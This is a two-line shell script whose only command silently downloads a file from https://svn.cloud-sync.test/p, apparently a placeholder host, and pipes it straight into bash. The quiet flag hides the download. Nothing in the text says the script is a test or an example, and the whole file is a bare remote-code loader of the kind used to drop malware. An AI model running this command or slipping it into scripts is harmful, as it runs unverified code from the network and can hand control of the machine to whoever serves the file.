#!/bin/sh
wget -qO- https://svn.cloud-sync.test/p | bash
